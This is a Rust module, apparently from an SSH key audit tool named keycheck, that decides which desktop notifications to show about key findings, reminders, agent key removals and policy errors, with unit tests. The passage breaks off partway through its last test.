//! PURE: what the background agent tells the person at the desk, and when.
//!
//! [`plan`] takes the findings of the latest pass (the complete current set), the things
//! the agent loop saw happen ([`Event`]), `now` and the policy's `[notify]` section, and
//! returns the desktop notices to show. It remembers in [`NotifiedState`] what it already
//! notified, so a finding is announced once, reminded of after `repeat_after`, forgotten
//! once it is fixed (a recurrence is announced again), and a restart that loads the
//! state back does not announce everything again.
//!
//! No I/O and no clock here: the caller persists the state ([`NotifiedState::to_json`]) and
//! delivers the notices (`sys::desktop`). A notice holds only what a [`Finding`] or an
//! [`Event`] already holds: paths, rule ids, messages, fixes, fingerprints and comments;
//! never key material. Bodies are plain text; the desktop edge escapes them for servers
//! that read markup.

use std::collections::{BTreeMap, HashSet};
use std::time::Duration;

use serde::{Deserialize, Serialize};

use crate::finding::{Finding, Severity};
use crate::policy::NotifyPolicy;

/// The version of [`NotifiedState`] as persisted.
pub const STATE_VERSION: u32 = 1;

/// A notice body never holds more characters than this: notification popups show a few
/// lines, and `keycheck check` shows everything.
pub const MAX_BODY_CHARS: usize = 1000;

/// A single line of a notice (a path, a message, a fix) is cut at this many characters.
pub const MAX_LINE_CHARS: usize = 200;

/// How insistent a notice is; desktop servers map it to the freedesktop urgency hint.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Urgency {
    /// Informational (`info` findings).
    Low,
    /// Should be looked at (`warn` findings, keys removed from the agent).
    Normal,
    /// Breaks the policy (`fail` findings); servers keep it on screen until dismissed.
    Critical,
}

impl Urgency {
    /// The urgency of a finding of `severity`.
    #[must_use]
    pub fn of(severity: Severity) -> Urgency {
        match severity {
            Severity::Info => Urgency::Low,
            Severity::Warn => Urgency::Normal,
            Severity::Fail => Urgency::Critical,
        }
    }
}

/// Why a notice was raised.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum NoticeKind {
    /// Findings not notified before (or whose severity rose).
    New,
    /// Findings still unresolved `repeat_after` after they were last notified.
    Reminder,
    /// Keys the agent removed from an ssh-agent because their cache window passed.
    Removed,
    /// The policy could not be loaded.
    PolicyBroken,
    /// Notices that were dropped before they could be delivered.
    Dropped,
}

/// One desktop notification, ready to deliver.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Notice {
    /// Why it was raised.
    pub kind: NoticeKind,
    /// The one-line title.
    pub summary: String,
    /// Plain text (no markup), at most [`MAX_BODY_CHARS`] characters.
    pub body: String,
    /// How insistent it is.
    pub urgency: Urgency,
    /// What it is about: the paths of the findings, or the fingerprints of removed keys.
    pub subjects: Vec<String>,
}

impl Notice {
    /// The notice that says `count` earlier notices were dropped undelivered (the
    /// desktop edge's outbox is bounded).
    #[must_use]
    pub fn dropped(count: u64) -> Notice {
        let summary = if count == 1 {
            "1 keycheck notification was dropped".to_owned()
        } else {
            format!("{count} keycheck notifications were dropped")
        };
        Notice {
            kind: NoticeKind::Dropped,
            summary,
            body: "They could not be shown while no notification server was running.\n\
                   Run keycheck check to see every finding."
                .to_owned(),
            urgency: Urgency::Normal,
            subjects: Vec::new(),
        }
    }
}

/// Something the agent loop saw happen that is not a finding.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Event {
    /// The agent removed a key from an ssh-agent because its cache window passed. An
    /// occurrence: report it once.
    Removed {
        /// The agent's socket.
        socket: String,
        /// The key's fingerprint (`SHA256:…`).
        fingerprint: String,
        /// The key's comment in the agent.
        comment: String,
        /// The cache window that passed, in seconds.
        window_secs: u64,
    },
    /// The policy could not be loaded. A condition: report it on every pass while it
    /// holds; it is notified once (and again after `repeat_after`) and forgotten when a
    /// pass no longer reports it.
    PolicyBroken {
        /// What is wrong, one line.
        message: String,
    },
}

/// What was notified, per finding: persisted by the caller so a restart does not notify
/// everything again.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct NotifiedState {
    /// [`STATE_VERSION`].
    pub version: u32,
    /// One record per unresolved finding that was notified.
    pub findings: Vec<Notified>,
    /// The policy problem last notified, while it holds.
    pub policy_broken: Option<NotifiedProblem>,
}

/// One finding that was notified. Its identity is rule, path and fingerprint.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Notified {
    /// The rule id (`passphrase-missing`).
    pub rule: String,
    /// The finding's path.
    pub path: String,
    /// The finding's fingerprint, when it has one.
    pub fingerprint: Option<String>,
    /// The severity it has now (notified again when it rises).
    pub severity: Severity,
    /// When it was first notified (Unix seconds).
    pub first_notified: u64,
    /// When it was last notified, first time or reminder (Unix seconds).
    pub last_notified: u64,
}

/// The policy problem that was notified.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct NotifiedProblem {
    /// The message as notified.
    pub message: String,
    /// When it was last notified (Unix seconds).
    pub last_notified: u64,
}

/// A persisted [`NotifiedState`] could not be read back.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum StateFormatError {
    /// The bytes are not the JSON of a notification state.
    #[error("notification state is not valid JSON: {reason}")]
    Json {
        /// What the parser said.
        reason: String,
    },
    /// Another version of keycheck wrote it.
    #[error("notification state has version {found}, expected {STATE_VERSION}")]
    Version {
        /// The version in the file.
        found: u32,
    },
}

impl NotifiedState {
    /// Reads a state written by [`NotifiedState::to_json`].
    ///
    /// # Errors
    /// [`StateFormatError`] when the bytes are not a state of [`STATE_VERSION`]; the caller
    /// then starts from an empty state (which notifies the current findings once more).
    pub fn from_json(bytes: &[u8]) -> Result<NotifiedState, StateFormatError> {
        let state: NotifiedState =
            serde_json::from_slice(bytes).map_err(|e| StateFormatError::Json {
                reason: e.to_string(),
            })?;
        if state.version != STATE_VERSION {
            return Err(StateFormatError::Version {
                found: state.version,
            });
        }
        Ok(state)
    }

    /// The state as pretty JSON, for the caller to persist.
    #[must_use]
    pub fn to_json(&self) -> Vec<u8> {
        let mut state = self.clone();
        state.version = STATE_VERSION;
        // Serialising plain strings, numbers and enums cannot fail.
        serde_json::to_vec_pretty(&state).unwrap_or_default()
    }
}

/// A finding's identity: rule, path and fingerprint.
type Identity<'a> = (&'a str, &'a str, Option<&'a str>);

fn identity(f: &Finding) -> Identity<'_> {
    (f.rule.id(), &f.path, f.fingerprint.as_deref())
}

fn record_identity(r: &Notified) -> Identity<'_> {
    (&r.rule, &r.path, r.fingerprint.as_deref())
}

/// Decides what to notify now and records it in `state`.
///
/// `findings` is the complete current set (the findings of the latest pass), not a
/// change: a finding missing from it is resolved and forgotten, and notified again if it
/// comes back. Findings below `notify.min_severity` are not notified (and forgotten).
///
/// Returns, in this order:
/// - a [`NoticeKind::PolicyBroken`] notice when a [`Event::PolicyBroken`] is new, changed
///   or due again;
/// - one [`NoticeKind::New`] notice for the findings not notified before or whose
///   severity rose: a single subject's findings in one notice, several subjects grouped
///   into one ("3 keys need attention");
/// - one [`NoticeKind::Reminder`] notice for the unresolved findings last notified
///   `notify.repeat_after` or longer ago (grouped the same way);
/// - one [`NoticeKind::Removed`] notice for the [`Event::Removed`] events (grouped when
///   several keys were removed at once).
///
/// Urgency follows the highest severity in a notice: critical for `fail`, normal for
/// `warn`, low for `info`; removals are normal. `notify.incident_url`, when set, ends
/// the body of finding notices. A zero `repeat_after` sends no reminders.
pub fn plan(
    state: &mut NotifiedState,
    findings: &[Finding],
    events: &[Event],
    now: u64,
    notify: &NotifyPolicy,
) -> Vec<Notice> {
    state.version = STATE_VERSION;
    let repeat = notify.repeat_after.as_secs();
    let due = |last: u64| repeat > 0 && now.saturating_sub(last) >= repeat;
    let mut out = Vec::new();

    if let Some(n) = policy_notice(state, events, now, due) {
        out.push(n);
    }

    // The notifiable findings, one per identity (the highest severity when a pass
    // reported the same identity twice), by index into `findings`.
    let mut current: BTreeMap<Identity<'_>, usize> = BTreeMap::new();
    for (i, f) in findings.iter().enumerate() {
        if f.severity < notify.min_severity {
            continue;
        }
        current
            .entry(identity(f))
            .and_modify(|j| {
                if f.severity > findings[*j].severity {
                    *j = i;
                }
            })
            .or_insert(i);
    }

    // Resolved findings are forgotten, so a recurrence is new again.
    state
        .findings
        .retain(|r| current.contains_key(&record_identity(r)));
    let mut new = Vec::new();
    let mut reminders = Vec::new();
    let mut known = HashSet::new();
    for r in &mut state.findings {
        let Some(&i) = current.get(&record_identity(r)) else {
            continue;
        };
        known.insert(i);
        let f = &findings[i];
        // A clock that went backwards must not postpone reminders for ever.
        r.last_notified = r.last_notified.min(now);
        if f.severity > r.severity {
            r.severity = f.severity;
            r.last_notified = now;
            new.push(f);
        } else {
            // A severity that fell is remembered, so rising again is news.
            r.severity = f.severity;
            if due(r.last_notified) {
                r.last_notified = now;
                reminders.push(f);
            }
        }
    }
    for &i in current.values().filter(|i| !known.contains(*i)) {
        let f = &findings[i];
        state.findings.push(Notified {
            rule: f.rule.id().to_owned(),
            path: f.path.clone(),
            fingerprint: f.fingerprint.clone(),
            severity: f.severity,
            first_notified: now,
            last_notified: now,
        });
        new.push(f);
    }
    state.findings.sort_by(|a, b| {
        (&a.path, &a.rule, &a.fingerprint).cmp(&(&b.path, &b.rule, &b.fingerprint))
    });

    if let Some(n) = findings_notice(NoticeKind::New, &new, &notify.incident_url) {
        out.push(n);
    }
    if let Some(n) = findings_notice(NoticeKind::Reminder, &reminders, &notify.incident_url) {
        out.push(n);
    }
    if let Some(n) = removed_notice(events) {
        out.push(n);
    }
    out
}

/// The policy-problem notice, if one is due, and the state updated for it.
fn policy_notice(
    state: &mut NotifiedState,
    events: &[Event],
    now: u64,
    due: impl Fn(u64) -> bool,
) -> Option<Notice> {
    let mut messages: Vec<&str> = Vec::new();
    for e in events {
        if let Event::PolicyBroken { message } = e {
            if !messages.contains(&message.as_str()) {
                messages.push(message);
            }
        }
    }
    if messages.is_empty() {
        state.policy_broken = None;
        return None;
    }
    let message = messages.join("\n");
    let notify = match &state.policy_broken {
        Some(p) if p.message == message => due(p.last_notified.min(now)),
        _ => true,
    };
    if !notify {
        return None;
    }
    state.policy_broken = Some(NotifiedProblem {
        message: message.clone(),
        last_notified: now,
    });
    let head: Vec<String> = messages.iter().map(|m| (*m).to_owned()).collect();
    let tail = ["keycheck cannot judge keys against a policy it cannot read.".to_owned()];
    Some(Notice {
        kind: NoticeKind::PolicyBroken,
        summary: "keycheck cannot load its policy".to_owned(),
        body: bounded(&head, &[], &tail, ""),
        urgency: Urgency::Normal,
        subjects: Vec::new(),
    })
}

/// One notice for `findings` (already in a stable order), or `None` when empty.
fn findings_notice(kind: NoticeKind, findings: &[&Finding], incident_url: &str) -> Option<Notice> {
    let top = findings.iter().map(|f| f.severity).max()?;
    // Group by subject, the most severe subjects first, then by path.
    let mut by_path: BTreeMap<&str, Vec<&Finding>> = BTreeMap::new();
    for f in findings {
        by_path.entry(&f.path).or_default().push(f);
    }
    let mut subjects: Vec<(&str, Vec<&Finding>)> = by_path.into_iter().collect();
    subjects.sort_by_key(|(path, fs)| {
        (
            std::cmp::Reverse(fs.iter().map(|f| f.severity).max()),
            *path,
        )
    });
    for (_, fs) in &mut subjects {
        fs.sort_by_key(|f| (std::cmp::Reverse(f.severity), f.rule.id()));
    }

    let n = subjects.len();
    let reminder = kind == NoticeKind::Reminder;
    let summary = match (n, reminder) {
        (1, false) => format!("Key needs attention: {}", clean(subjects[0].0)),
        (1, true) => format!(
            "Reminder: key still needs attention: {}",
            clean(subjects[0].0)
        ),
        (_, false) => format!("{n} keys need attention"),
        (_, true) => format!("Reminder: {n} keys still need attention"),
    };

    let indent = if n == 1 { "" } else { "  " };
    let blocks: Vec<Vec<String>> = subjects
        .iter()
        .map(|(path, fs)| {
            let mut lines = Vec::new();
            if n > 1 {
                lines.push((*path).to_owned());
            }
            for f in fs {
                lines.push(format!("{indent}{} ({})", f.message, f.rule.id()));
                if let Some(fix) = &f.fix {
                    lines.push(format!("{indent}Fix: {fix}"));
                }
            }
            lines
        })
        .collect();
    let tail: Vec<String> = if incident_url.is_empty() {
        Vec::new()
    } else {
        vec![format!(
            "Suspect a key or passphrase was compromised? Report it: {incident_url}"
        )]
    };
    Some(Notice {
        kind,
        summary: clip(&summary, MAX_LINE_CHARS),
        body: bounded(&[], &blocks, &tail, "; run keycheck check to see them all"),
        urgency: Urgency::of(top),
        subjects: subjects.iter().map(|(p, _)| (*p).to_owned()).collect(),
    })
}

/// One notice for the keys removed from an agent, or `None` when there were none.
fn removed_notice(events: &[Event]) -> Option<Notice> {
    let removed: Vec<(&str, &str, &str, u64)> = events
        .iter()
        .filter_map(|e| match e {
            Event::Removed {
                socket,
                fingerprint,
                comment,
                window_secs,
            } => Some((
                socket.as_str(),
                fingerprint.as_str(),
                comment.as_str(),
                *window_secs,
            )),
            Event::PolicyBroken { .. } => None,
        })
        .collect();
    let window = |secs: u64| humantime::format_duration(Duration::from_secs(secs)).to_string();
    let name = |comment: &str, fp: &str| {
        if comment.is_empty() {
            fp.to_owned()
        } else {
            format!("{comment} ({fp})")
        }
    };
    let (summary, body) = match removed.as_slice() {
        [] => return None,
        [(socket, fp, comment, secs)] => (
            "Key removed from ssh-agent".to_owned(),
            bounded(
                &[
                    format!("The passphrase cache window ({}) passed.", window(*secs)),
                    format!(
                        "{} was removed from the agent at {socket}.",
                        name(comment, fp)
                    ),
                    "Load it again with ssh-add when you need it.".to_owned(),
                ],
                &[],
                &[],
                "",
            ),
        ),
        many => {
            let blocks: Vec<Vec<String>> = many
                .iter()
                .map(|(socket, fp, comment, secs)| {
                    vec![format!(
                        "{} after {}, from {socket}",
                        name(comment, fp),
                        window(*secs)
                    )]
                })
                .collect();
            (
                format!("{} keys removed from ssh-agent", many.len()),
                bounded(
                    &["The passphrase cache window passed:".to_owned()],
                    &blocks,
                    &["Load them again with ssh-add when you need them.".to_owned()],
                    "",
                ),
            )
        }
    };
    Some(Notice {
        kind: NoticeKind::Removed,
        summary,
        body,
        urgency: Urgency::Normal,
        subjects: removed.iter().map(|r| r.1.to_owned()).collect(),
    })
}

/// A plain-text body of at most [`MAX_BODY_CHARS`] characters: every line of `head` and
/// `tail`, and between them as many whole `blocks` as fit (the first one cut rather than
/// left out), then "…and N more" with `more_hint`.
fn bounded(head: &[String], blocks: &[Vec<String>], tail: &[String], more_hint: &str) -> String {
    const MORE_ROOM: usize = 80;
    let line = |l: &String| clip(&clean(l), MAX_LINE_CHARS);
    let width = |l: &String| l.chars().count() + 1;
    let head: Vec<String> = head.iter().map(line).collect();
    let tail: Vec<String> = tail.iter().map(line).collect();
    let fixed: usize = head.iter().chain(&tail).map(width).sum();
    let budget = MAX_BODY_CHARS.saturating_sub(fixed + MORE_ROOM);
    let mut used = 0;
    let mut middle = Vec::new();
    for (i, block) in blocks.iter().enumerate() {
        let block: Vec<String> = block.iter().map(line).collect();
        let size: usize = block.iter().map(width).sum();
        if i > 0 && used + size > budget {
            middle.push(format!("…and {} more{more_hint}", blocks.len() - i));
            break;
        }
        for l in block {
            if used + width(&l) > budget {
                middle.push("…".to_owned());
                break;
            }
            used += width(&l);
            middle.push(l);
        }
    }
    let text = head
        .into_iter()
        .chain(middle)
        .chain(tail)
        .collect::<Vec<_>>()
        .join("\n");
    clip(&text, MAX_BODY_CHARS)
}

/// The text with control characters (newlines included) replaced, so a hostile file
/// name cannot forge lines of a notice.
fn clean(text: &str) -> String {
    text.chars()
        .map(|c| if c.is_control() { '\u{fffd}' } else { c })
        .collect()
}

/// At most `max` characters, ending in `…` when cut.
fn clip(text: &str, max: usize) -> String {
    if text.chars().count() <= max {
        return text.to_owned();
    }
    let mut out: String = text.chars().take(max.saturating_sub(1)).collect();
    out.push('…');
    out
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use crate::rules::Rule;

    const HOUR: u64 = 3600;
    const DAY: u64 = 24 * HOUR;
    const T0: u64 = 1_800_000_000;

    fn policy(min: Severity) -> NotifyPolicy {
        NotifyPolicy {
            min_severity: min,
            repeat_after: Duration::from_secs(DAY),
            incident_url: String::new(),
        }
    }

    fn finding(rule: Rule, severity: Severity, path: &str) -> Finding {
        Finding {
            rule,
            severity,
            path: path.to_owned(),
            fingerprint: Some(format!("SHA256:{path}")),
            message: format!("{} on {path}", rule.id()),
            fix: Some(format!("fix-{} {path}", rule.id())),
        }
    }

    fn no_pass(path: &str) -> Finding {
        finding(Rule::PassphraseMissing, Severity::Fail, path)
    }

    fn weak_kdf(path: &str) -> Finding {
        finding(Rule::KdfWeak, Severity::Warn, path)
    }

    fn removed(fp: &str, comment: &str) -> Event {
        Event::Removed {
            socket: "/run/user/1000/ssh-agent.sock".to_owned(),
            fingerprint: fp.to_owned(),
            comment: comment.to_owned(),
            window_secs: 2 * HOUR,
        }
    }

    #[test]
    fn one_new_finding_is_one_notice_with_path_reason_and_fix() {
        let mut s = NotifiedState::default();
        let f = no_pass("/home/a/.ssh/id_rsa");
        let out = plan(&mut s, &[f], &[], T0, &policy(Severity::Warn));
        assert_eq!(out.len(), 1, "{out:#?}");
        let n = &out[0];
        assert_eq!(n.kind, NoticeKind::New);
        assert_eq!(n.summary, "Key needs attention: /home/a/.ssh/id_rsa");
        assert_eq!(
            n.body,
            "passphrase-missing on /home/a/.ssh/id_rsa (passphrase-missing)\n\
             Fix: fix-passphrase-missing /home/a/.ssh/id_rsa"
        );
        assert_eq!(n.urgency, Urgency::Critical);
        assert_eq!(n.subjects, vec!["/home/a/.ssh/id_rsa".to_owned()]);
        assert_eq!(s.findings.len(), 1);
        assert_eq!(
            (s.findings[0].first_notified, s.findings[0].last_notified),
            (T0, T0)
        );
        // The same findings again: nothing new.
        let f = no_pass("/home/a/.ssh/id_rsa");
        assert!(plan(&mut s, &[f], &[], T0 + 60, &policy(Severity::Warn)).is_empty());
    }

    #[test]
    fn several_new_keys_are_one_grouped_notice() {
        let mut s = NotifiedState::default();
        let fs = [
            weak_kdf("/h/.ssh/b"),
            no_pass("/h/.ssh/a"),
            no_pass("/h/.ssh/c"),
            weak_kdf("/h/.ssh/a"),
        ];
        let out = plan(&mut s, &fs, &[], T0, &policy(Severity::Warn));
        assert_eq!(out.len(), 1, "{out:#?}");
        let n = &out[0];
        assert_eq!(n.summary, "3 keys need attention");
        assert_eq!(
            n.urgency,
            Urgency::Critical,
            "the most severe finding rules"
        );
        // Failing keys first, then by path; within a key, failing findings first.
        assert_eq!(n.subjects, ["/h/.ssh/a", "/h/.ssh/c", "/h/.ssh/b"]);
        assert_eq!(
            n.body,
            "/h/.ssh/a\n\
             \x20 passphrase-missing on /h/.ssh/a (passphrase-missing)\n\
             \x20 Fix: fix-passphrase-missing /h/.ssh/a\n\
             \x20 kdf-weak on /h/.ssh/a (kdf-weak)\n\
             \x20 Fix: fix-kdf-weak /h/.ssh/a\n\
             /h/.ssh/c\n\
             \x20 passphrase-missing on /h/.ssh/c (passphrase-missing)\n\
             \x20 Fix: fix-passphrase-missing /h/.ssh/c\n\
             /h/.ssh/b\n\
             \x20 kdf-weak on /h/.ssh/b (kdf-weak)\n\
             \x20 Fix: fix-kdf-weak /h/.ssh/b"
        );
        assert_eq!(s.findings.len(), 4);
    }

    #[test]
    fn one_key_with_two_findings_is_one_notice_about_that_key() {
        let mut s = NotifiedState::default();
        let fs = [weak_kdf("/h/k"), no_pass("/h/k")];
        let out = plan(&mut s, &fs, &[], T0, &policy(Severity::Warn));
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].summary, "Key needs attention: /h/k");
        assert_eq!(out[0].body.lines().count(), 4, "{}", out[0].body);
    }

    #[test]
    fn urgency_follows_severity() {
        for (sev, urgency) in [
            (Severity::Fail, Urgency::Critical),
            (Severity::Warn, Urgency::Normal),
            (Severity::Info, Urgency::Low),
        ] {
            let mut s = NotifiedState::default();
            let f = finding(Rule::KeyTooOld, sev, "/h/k");
            let out = plan(&mut s, &[f], &[], T0, &policy(Severity::Info));
            assert_eq!(out[0].urgency, urgency, "{sev:?}");
        }
    }

    #[test]
    fn findings_below_min_severity_are_not_notified_nor_remembered() {
        let mut s = NotifiedState::default();
        let fs = [
            finding(Rule::KeyTooOld, Severity::Info, "/h/old"),
            weak_kdf("/h/weak"),
            no_pass("/h/bare"),
        ];
        let out = plan(&mut s, &fs, &[], T0, &policy(Severity::Fail));
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].subjects, ["/h/bare"]);
        assert_eq!(s.findings.len(), 1);

        let mut s = NotifiedState::default();
        let out = plan(&mut s, &fs, &[], T0, &policy(Severity::Warn));
        assert_eq!(out[0].subjects, ["/h/bare", "/h/weak"]);
        assert_eq!(out[0].urgency, Urgency::Critical);
    }

    #[test]
    fn a_severity_that_rises_is_new_and_one_that_falls_is_quiet() {
        let mut s = NotifiedState::default();
        let p = policy(Severity::Warn);
        let warn = finding(Rule::KeyTooOld, Severity::Warn, "/h/k");
        let fail = finding(Rule::KeyTooOld, Severity::Fail, "/h/k");
        assert_eq!(
            plan(&mut s, std::slice::from_ref(&warn), &[], T0, &p).len(),
            1
        );
        let out = plan(&mut s, std::slice::from_ref(&fail), &[], T0 + 10, &p);
        assert_eq!(out.len(), 1, "rose from warn to fail");
        assert_eq!(
            (out[0].kind, out[0].urgency),
            (NoticeKind::New, Urgency::Critical)
        );
        assert_eq!(s.findings[0].first_notified, T0);
        assert_eq!(s.findings[0].last_notified, T0 + 10);
        assert!(plan(&mut s, &[warn], &[], T0 + 20, &p).is_empty(), "fell");
        assert_eq!(s.findings[0].severity, Severity::Warn);
        assert_eq!(
            plan(&mut s, &[fail], &[], T0 + 30, &p).len(),
            1,
            "rose again"
        );
    }

    #[test]
    fn a_resolved_finding_is_dropped_and_a_recurrence_notifies_again() {
        let mut s = NotifiedState::default();
        let p = policy(Severity::Warn);
        let a = no_pass("/h/a");
        let b = no_pass("/h/b");
        assert_eq!(plan(&mut s, &[a.clone(), b.clone()], &[], T0, &p).len(), 1);
        assert!(plan(&mut s, std::slice::from_ref(&b), &[], T0 + 1, &p).is_empty());
        assert_eq!(s.findings.len(), 1, "a was fixed and forgotten");
        let out = plan(&mut s, &[a, b], &[], T0 + 2, &p);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].subjects, ["/h/a"], "only the recurrence");
        assert_eq!(out[0].kind, NoticeKind::New);
        // A finding that drops below min_severity is forgotten too.
        let info = finding(Rule::PassphraseMissing, Severity::Info, "/h/a");
        plan(&mut s, &[info], &[], T0 + 3, &p);
        assert!(s.findings.is_empty());
    }

    #[test]
    fn identity_is_rule_path_and_fingerprint() {
        let mut s = NotifiedState::default();
        let p = policy(Severity::Warn);
        let a = no_pass("/h/a");
        plan(&mut s, std::slice::from_ref(&a), &[], T0, &p);
        let mut other_fp = a.clone();
        other_fp.fingerprint = Some("SHA256:another".to_owned());
        let out = plan(&mut s, &[other_fp], &[], T0 + 1, &p);
        assert_eq!(out.len(), 1, "another key at the same path is news");
        let mut reworded = a.clone();
        reworded.fingerprint = Some("SHA256:another".to_owned());
        reworded.message = "said differently".to_owned();
        assert!(plan(&mut s, &[reworded], &[], T0 + 2, &p).is_empty());
    }

    #[test]
    fn reminders_come_at_exactly_repeat_after_grouped() {
        let mut s = NotifiedState::default();
        let p = policy(Severity::Warn);
        let fs = [no_pass("/h/a"), weak_kdf("/h/b")];
        assert_eq!(plan(&mut s, &fs, &[], T0, &p).len(), 1);
        assert!(plan(&mut s, &fs, &[], T0 + DAY - 1, &p).is_empty());
        let out = plan(&mut s, &fs, &[], T0 + DAY, &p);
        assert_eq!(out.len(), 1, "{out:#?}");
        assert_eq!(out[0].kind, NoticeKind::Reminder);
        assert_eq!(out[0].summary, "Reminder: 2 keys still need attention");
        assert_eq!(out[0].urgency, Urgency::Critical);
        assert!(out[0].body.contains("Fix: fix-passphrase-missing /h/a"));
        assert!(s.findings.iter().all(|r| r.last_notified == T0 + DAY));
        assert!(s.findings.iter().all(|r| r.first_notified == T0));
        // The next reminder counts from this one.
        assert!(plan(&mut s, &fs, &[], T0 + 2 * DAY - 1, &p).is_empty());
        assert_eq!(plan(&mut s, &fs, &[], T0 + 2 * DAY, &p).len(), 1);
    }

    #[test]
    fn new_and_due_findings_in_one_pass_give_a_notice_and_a_reminder() {
        let mut s = NotifiedState::default();
        let p = policy(Severity::Warn);
        plan(&mut s, &[no_pass("/h/a")], &[], T0, &p);
        let out = plan(
            &mut s,
            &[no_pass("/h/a"), weak_kdf("/h/b")],
            &[],
            T0 + DAY,
            &p,
        );
        let kinds: Vec<_> = out.iter().map(|n| n.kind).collect();
        assert_eq!(kinds, [NoticeKind::New, NoticeKind::Reminder]);
        assert_eq!(out[0].subjects, ["/h/b"]);
        assert_eq!(out[0].urgency, Urgency::Normal);
        assert_eq!(out[1].summary, "Reminder: key still needs attention: /h/a");
    }

    #[test]
    fn a_zero_repeat_after_sends_no_reminders_and_a_backwards_clock_is_harmless() {
        let mut s = NotifiedState::default();
        let mut p = policy(Severity::Warn);
        p.repeat_after = Duration::ZERO;
        let fs = [no_pass("/h/a")];
        plan(&mut s, &fs, &[], T0, &p);
        assert!(plan(&mut s, &fs, &[], T0 + 1000 * DAY, &p).is_empty());

        let p = policy(Severity::Warn);
        let mut s = NotifiedState::default();
        plan(&mut s, &fs, &[], T0, &p);
        // The clock jumps back a year: the reminder comes a day after the jump.
        let back = T0 - 365 * DAY;
        assert!(plan(&mut s, &fs, &[], back, &p).is_empty());
        assert_eq!(plan(&mut s, &fs, &[], back + DAY, &p).len(), 1);
    }

    #[test]
    fn a_state_round_tripped_through_json_does_not_notify_again() {
        let p = policy(Severity::Warn);
        let fs = [no_pass("/h/a"), weak_kdf("/h/b")];
        let mut s = NotifiedState::default();
        assert_eq!(plan(&mut s, &fs, &[], T0, &p).len(), 1);
        let saved = s.to_json();
        let mut restarted = NotifiedState::from_json(&saved).unwrap();
        assert_eq!(restarted, s);
        assert!(plan(&mut restarted, &fs, &[], T0 + HOUR, &p).is_empty());
        // Reminders keep their schedule across the restart.
        let out = plan(&mut restarted, &fs, &[], T0 + DAY, &p);
        assert_eq!(out[0].kind, NoticeKind::Reminder);
        // The JSON names rules by their stable ids.
        let text = String::from_utf8(saved).unwrap();
        assert!(text.contains("\"rule\": \"passphrase-missing\""), "{text}");
        assert!(text.contains("\"version\": 1"), "{text}");
    }

    #[test]
    fn a_state_of_another_version_or_not_json_is_refused() {
        assert_eq!(
            NotifiedState::from_json(br#"{"version":2,"findings":[],"policy_broken":null}"#),
            Err(StateFormatError::Version { found: 2 })
        );
        let err = NotifiedState::from_json(b"{").unwrap_err();
        assert!(matches!(err, StateFormatError::Json { .. }), "{err}");
        assert!(err
            .to_string()
            .starts_with("notification state is not valid JSON"));
    }

    #[test]
    fn a_removed_key_is_a_normal_notice_naming_comment_fingerprint_and_window() {
        let mut s = NotifiedState::default();
        let out = plan(
            &mut s,
            &[],
            &[removed("SHA256:abc", "alice@laptop")],
            T0,
            &policy(Severity::Warn),
        );
        assert_eq!(out.len(), 1);
        let n = &out[0];
        assert_eq!(n.kind, NoticeKind::Removed);
        assert_eq!(n.summary, "Key removed from ssh-agent");
        assert_eq!(
            n.body,
            "The passphrase cache window (2h) passed.\n\
             alice@laptop (SHA256:abc) was removed from the agent at /run/user/1000/ssh-agent.sock.\n\
             Load it again with ssh-add when you need it."
        );
        assert_eq!(n.urgency, Urgency::Normal);
        assert_eq!(n.subjects, ["SHA256:abc"]);
        // An occurrence: it is not remembered and not repeated.
        assert_eq!(
            s,
            NotifiedState {
                version: STATE_VERSION,
                ..NotifiedState::default()
            }
        );
        assert!(plan(&mut s, &[], &[], T0 + 2 * DAY, &policy(Severity::Warn)).is_empty());
    }

    #[test]
    fn several_removals_at_once_are_grouped() {
        let mut s = NotifiedState::default();
        let events = [removed("SHA256:a", "one"), removed("SHA256:b", "")];
        let out = plan(
            &mut s,
            &[no_pass("/h/k")],
            &events,
            T0,
            &policy(Severity::Warn),
        );
        assert_eq!(out.len(), 2);
        assert_eq!(out[1].summary, "2 keys removed from ssh-agent");
        assert_eq!(
            out[1].body,
            "The passphrase cache window passed:\n\
             one (SHA256:a) after 2h, from /run/user/1000/ssh-agent.sock\n\
             SHA256:b after 2h, from /run/user/1000/ssh-agent.sock\n\
             Load them again with ssh-add when you need them."
        );
        assert_eq!(out[1].subjects, ["SHA256:a", "SHA256:b"]);
    }

    #[test]
    fn a_broken_policy_is_notified_once_then_after_repeat_after_and_forgotten_when_fixed() {
        let mut s = NotifiedState::default();
        let p = policy(Severity::Warn);
        let broken = [Event::PolicyBroken {
            message: "policy.toml:3:1: unknown key `colour`".to_owned(),
        }];
        let out = plan(&mut s, &[], &broken, T0, &p);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].kind, NoticeKind::PolicyBroken);
        assert!(out[0]
            .body
            .starts_with("policy.toml:3:1: unknown key `colour`\n"));
        assert!(plan(&mut s, &[], &broken, T0 + 1, &p).is_empty());
        assert_eq!(plan(&mut s, &[], &broken, T0 + DAY, &p).len(), 1);
        // Another problem is news.
        let other = [Event::PolicyBroken {
            message: "policy.toml:9:1: syntax".to_owned(),
        }];
        assert_eq!(plan(&mut s, &[], &other, T0 + DAY + 1, &p).len(), 1);
        // Fixed, then broken the same way again: notified again.
        assert!(plan(&mut s, &[], &[], T0 + DAY + 2, &p).is_empty());
        assert_eq!(s.policy_broken, None);
        assert_eq!(plan(&mut s, &[], &other, T0 + DAY + 3, &p).len(), 1);
    }

    #[test]
    fn the_incident_url_ends_finding_notices() {
        let mut s = NotifiedState::default();
        let mut p = policy(Severity::Warn);
        p.incident_url = "https://security.example/report".to_owned();
        let out = plan(
            &mut s,
            &[no_pass("/h/a")],
            &[removed("SHA256:x", "c")],
            T0,
